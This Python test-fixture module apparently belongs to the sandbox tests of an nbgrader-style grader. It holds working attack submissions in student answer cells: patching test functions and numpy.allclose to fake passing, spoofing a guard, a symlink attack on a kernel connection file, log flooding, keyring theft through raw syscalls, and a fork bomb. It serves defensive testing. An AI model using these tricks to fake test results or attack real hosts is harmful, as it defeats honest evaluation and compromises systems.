"""Forgeries of issue 26: each a submission of the graded lab with a WRONG softmax (an honest
one scores 10/20) that tries to score anyway, or to reach the host from its sandbox.

tests/grading/isolation/test_forgeries.py grades them in one sandboxed batch with honest students.
Every attempt sits in the ``my_softmax`` answer cell after the wrong ``my_softmax`` and
prints ``ESCAPE <label>: OK <what it got>`` or ``ESCAPE <label>: BLOCKED <error>`` per try
(:func:`helpers.escapes.prelude`); the tests read those lines back where the cell's outputs
survive, and check the host independently (a planted file's bytes and mode, the grader's
session keyring, the sizes of what reached the coordinator).
"""
from __future__ import annotations

from dataclasses import dataclass

from helpers.escapes import attempt_code, prelude
from helpers.faults import FULL, NO_SOFTMAX, WRONG_SOFTMAX, Case, answer

PRELUDE = prelude(3000)
#: bytes the log attempt writes to its stdout and its stderr, each
LOG_FLOOD = 20 << 20
#: displays of the many-outputs attempt, and characters in each (each under LimitOutputBytes)
DISPLAYS, DISPLAY_CHARS = 100, 900_000
#: forks of the process-limit attempt (far over any test's pids limit)
FORKS = 600
MARKER = "4242.2626"  # argument of the sleepers it leaves behind


@dataclass(frozen=True)
class ForgeTargets:
    """What the attempts aim at on the grader's machine."""

    target: str  # a host file the link attempt tries to overwrite (the test plants it)
    key_description: str  # a key in the grader's session keyring (the test adds it)
    planted_description: str  # the key the keyring attempt tries to leave there


def _code(body: str) -> str:
    return attempt_code(body, PRELUDE, WRONG_SOFTMAX)


def forgery_cases(t: ForgeTargets) -> list[Case]:
    """One Case per class of issue 26 (and the process limit of issue 25). ``expected`` is the
    fair score: the wrong softmax 0, the right model 10. ``extra['blocked']`` lists labels that
    must print BLOCKED (where the cell's outputs survive)."""
    return [
        Case("forge_partial_credit", "the answer emits an execute_result (10) whenever it is called, "
             "which nbgrader reads as a test cell's partial credit",
             [answer("my_softmax", '''def my_softmax(z):
    import sys
    sys.displayhook(10)
    return np.exp(z)
''')], NO_SOFTMAX),
        Case("forge_code_patch", "replaces the __code__ of the public test function and of numpy's "
             "allclose (identities unchanged, so a guard comparing objects sees nothing)",
             [answer("my_softmax", _code('''
            import numpy, public_tests.softmax_tests
            def _none(*args, **kwargs):
                return None
            def _yes(*args, **kwargs):
                return True
            def patch():
                public_tests.softmax_tests.test_my_softmax.__code__ = _none.__code__
                numpy.allclose._implementation.__code__ = _yes.__code__
                return "patched"
            attempt("code", patch)
            '''))], NO_SOFTMAX),
        Case("forge_guard_echo", "replaces the guard's entry point with one that echoes the nonce it "
             "is handed, then patches the test and numpy",
             [answer("my_softmax", _code('''
            import numpy, numpy.testing, public_tests
            guard = sys.modules["_course_guard"]
            guard.before_test = lambda nonce, *args, **kwargs: f"GUARD-OK {nonce}"
            numpy.allclose = lambda *a, **k: True
            numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
            numpy.testing.assert_allclose = lambda *a, **k: None
            public_tests.test_my_softmax = lambda *a, **k: None
            test_my_softmax = lambda *a, **k: None
            '''))], NO_SOFTMAX),
        Case("forge_thread", "a thread re-patches the test and numpy every millisecond, after any "
             "undo of the guard's",
             [answer("my_softmax", _code('''
            import threading, time, numpy, numpy.testing, public_tests
            _ns = get_ipython().user_ns
            def _repatch():
                while True:
                    numpy.allclose = lambda *a, **k: True
                    numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
                    numpy.testing.assert_allclose = lambda *a, **k: None
                    public_tests.test_my_softmax = lambda *a, **k: None
                    _ns["test_my_softmax"] = lambda *a, **k: None
                    time.sleep(0.001)
            threading.Thread(target=_repatch, daemon=True).start()
            '''))], NO_SOFTMAX),
        Case("forge_link", "replaces its copy of the connection file with a link to a host file, "
             "locks the socket folder and exits: the launcher, root, copies at the restart",
             [answer("my_softmax", _code(f'''
            import json
            from ipykernel.connect import get_connection_file
            connection = get_connection_file()
            sockets = os.path.dirname(json.load(open(connection))["ip"])
            print("ESCAPE socket folder: OK", repr(sockets))
            def plant(folder):
                link = os.path.join(folder, "new-link")
                os.symlink({t.target!r}, link)
                os.rename(link, os.path.join(folder, os.path.basename(connection)))
                return folder
            for label, folder in (("connection folder", os.path.dirname(connection)), ("socket folder", sockets)):
                attempt("plant in " + label, lambda: plant(folder))
            attempt("lock", lambda: os.chmod(sockets, 0o500))
            sys.stdout.flush()
            os._exit(1)
            '''))], NO_SOFTMAX, notes=("kernel died in my_softmax",)),
        Case("forge_log", "floods its stdout and stderr, which were nbgrader's log, and reports the "
             "descriptors it started with",
             [answer("my_softmax", _code(f'''
            import json
            from ipykernel.connect import get_connection_file
            print("ESCAPE socket folder: OK", repr(os.path.dirname(json.load(open(get_connection_file()))["ip"])))
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            def fd_target(pid, fd):
                return os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
            for fd in (0, 1, 2):
                attempt(f"fd {{fd}}", lambda: fd_target("self", fd))
            attempt("init fds", lambda: sorted(os.listdir("/proc/1/fd")))  # (numbers only)
            attempt("init fd 1", lambda: fd_target(1, 1))
            attempt("open init fd 1", lambda: open("/proc/1/fd/1", "wb").close())
            def flood(fd):
                block, written = b"x" * (1 << 20), 0
                for _ in range({LOG_FLOOD} >> 20):
                    try:
                        written += os.write(fd, block)
                    except OSError:
                        break
                return written
            attempt("flood stdout", lambda: flood(1))
            attempt("flood stderr", lambda: flood(2))
            '''))], NO_SOFTMAX),
        Case("forge_outputs", "displays many outputs, each under LimitOutputBytes' cap",
             [answer("my_softmax", _code(f'''
            from IPython.display import display
            for _ in range({DISPLAYS}):
                display({{"text/plain": "x" * {DISPLAY_CHARS}}}, raw=True)
            '''))], NO_SOFTMAX),
        Case("forge_keyring", "reads the grader's session keyring and leaves a key in it",
             [answer("my_softmax", _code(f'''
            import ctypes, platform
            _libc = ctypes.CDLL(None, use_errno=True)
            _nr = {{"x86_64": (248, 250), "aarch64": (217, 219)}}[platform.machine()]
            SESSION = -3  # KEY_SPEC_SESSION_KEYRING
            def _check(r):
                if r < 0:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                return r
            def keyctl(*args):
                return _check(_libc.syscall(_nr[1], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args]))
            def read_key(key):
                buf = ctypes.create_string_buffer(4096)
                n = keyctl(11, key, buf, 4096)  # KEYCTL_READ
                return buf.raw[:n]
            attempt("session keyring", lambda: keyctl(0, SESSION, 0))  # KEYCTL_GET_KEYRING_ID
            def find():
                key = keyctl(10, SESSION, b"user", {t.key_description.encode()!r}, 0)  # KEYCTL_SEARCH
                return read_key(key)
            attempt("grader's key", find)
            attempt("leave a key", lambda: _check(_libc.syscall(_nr[0], b"user", {t.planted_description.encode()!r},
                                                                b"left by a student", 17, ctypes.c_long(SESSION))))
            '''))], NO_SOFTMAX, extra={"blocked": ["session keyring", "grader's key", "leave a key"]}),
        Case("forge_pids", "forks hundreds of detached sleepers: the process limit refuses the rest, "
             "and those left would hold it for every later cell",
             [answer("my_softmax", _code(f'''
            def bomb():
                made = refused = 0
                for _ in range({FORKS}):
                    try:
                        pid = os.fork()
                    except OSError:
                        refused += 1
                        continue
                    if pid == 0:
                        os.setsid()
                        os.execv("/bin/sleep", ["sleep", "{MARKER}"])
                    made += 1
                return f"made {{made}} refused {{refused}}"
            attempt("fork", bomb)
            '''))], NO_SOFTMAX, notes=("process limit reached in my_softmax",)),
    ]


def honest_cases() -> list[Case]:
    """Honest students graded in the same batch: right answers, and a wrong softmax."""
    return [Case("forge_honest", "correct answers", [], FULL),
            Case("forge_honest_wrong", "softmax not normalised", [answer("my_softmax", WRONG_SOFTMAX)],
                 NO_SOFTMAX)]
